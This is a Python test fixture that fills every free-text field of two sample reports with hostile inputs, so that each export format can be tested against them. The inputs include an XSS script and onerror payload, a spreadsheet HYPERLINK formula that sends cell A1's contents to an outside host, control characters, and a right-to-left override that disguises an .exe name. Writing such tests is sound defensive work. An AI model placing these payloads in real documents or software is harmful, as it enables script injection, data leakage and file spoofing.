"""Two reports whose names, titles and words are an attack: what a format may do with them is its own test's matter."""

from __future__ import annotations

from datetime import date

from core.tables import Tables
from tests.store.conftest import TEXT, joined, report

SCRIPT = '<script>document.title = "taken over"</script><img src=x onerror="document.title=\'taken over\'">'
FORMULA = '=HYPERLINK("http://example.org/?x="&A1,"open")'
CONTROLS = "bell \x07 escape \x1b[31m null \x00 delete \x7f next \x85 nothing \ufffe"
TURNED = "\u202egnp.exe\u2066 \u200fשלום \u2028"
ALL = f"{SCRIPT} {FORMULA} {CONTROLS} {TURNED} ]]> --> {{{{ $x }}}}"


def hostile() -> Tables:
    """Every free text of the two reports holds, or begins with, one of these."""
    tables = joined([report(1), report(2, text=TEXT + f"\n\n{FORMULA} {ALL}", day=date(1899, 12, 31))])
    for table, column, value in (
        ("documents", "title", f"{FORMULA} {ALL}"), ("documents", "outlet", ALL), ("documents", "source", ALL),
        ("documents", "byline", f"@{ALL}"), ("actors", "name", f"+{ALL}"), ("meetings", "city", f"-{ALL}"),
        ("meetings", "venue", ALL), ("quotes", "speaker", f"={ALL}"), ("quotes", "speaker_role", ALL),
        ("quotes", "text", f"{FORMULA} {ALL}"), ("quotes", "cue", ALL), ("topics", "topic", ALL),
        ("mentions", "text", f"\t={ALL}"),
    ):  # fmt: skip
        frame = getattr(tables, table)
        frame[column] = frame[column].where(frame[column].isna() & False, value)
    return tables
